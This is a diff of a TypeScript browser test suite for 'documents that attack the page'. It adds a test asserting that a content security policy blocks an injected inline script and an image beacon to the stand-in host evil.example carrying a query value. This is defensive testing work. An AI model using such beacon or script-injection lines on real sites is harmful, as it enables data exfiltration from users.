@@ -7,12 +7,12 @@ import { sampleRecord, sampleResult } from '../functions/src/export/sample-recor
 import { toFields } from '../functions/src/store/documents.ts';
 import { conversationRef, turnRef } from '../functions/src/store/paths.ts';
 import { createAdmin } from '../local/firestore/testing/admin-client.ts';
-import { type LocalStack, projectId } from '../local/main.ts';
+import { projectId } from '../local/main.ts';
 import { holdAttackCounts } from '../reliability/attacks/attack-report.ts';
 import { csvPayloads, havePublished, markupPayloads } from '../reliability/attacks/payloads.ts';
 import { toBatches } from '../reliability/attacks/tool-calls.ts';
 import { launchBrowser, signIn } from './person.ts';
-import { startStack } from './start-stack.ts';
+import { type StartedStack, startStack } from './start-stack.ts';
 
 // Whatever a document holds, the page draws it as text. The payloads are written into every field that is drawn, past the
 // functions: as if a model, a cell or another system had sent them and nothing before the page had stopped them.
@@ -23,7 +23,7 @@ const batches = toBatches([...markupPayloads, ...csvPayloads], 60);
 type Watch = { dialogs: string[]; foreign: string[]; violations: string[]; errors: string[] };
 
 describe('documents that attack the page', () => {
-  let stack: LocalStack;
+  let stack: StartedStack;
   let browser: Browser;
   let page: Page;
   let db: Firestore;
@@ -118,6 +118,24 @@ describe('documents that attack the page', () => {
         unaudited: null,
       },
     });
+  });
+
+  it('are stopped by the content security policy where they got through, and the browser reports it', async () => {
+    const reports = () =>
+      stack.functionLog.filter((line) => line.includes('Content security policy violated'));
+    expect(reports()).toEqual([]);
+    await page.evaluate(() => {
+      new Image().src = 'https://evil.example/pixel.png?q=stock';
+      const script = document.createElement('script');
+      script.textContent = 'window.attacked = 1';
+      document.body.append(script);
+    });
+    await expect.poll(() => reports().length, { timeout: 10_000 }).toBe(2);
+    const text = reports().join();
+    expect(text).toContain('"directive":"img-src","blocked":"https://evil.example/pixel.png"');
+    expect(text).toContain('"directive":"script-src-elem","blocked":"inline"');
+    expect(text).not.toContain('q=stock');
+    expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
   });
 });
 
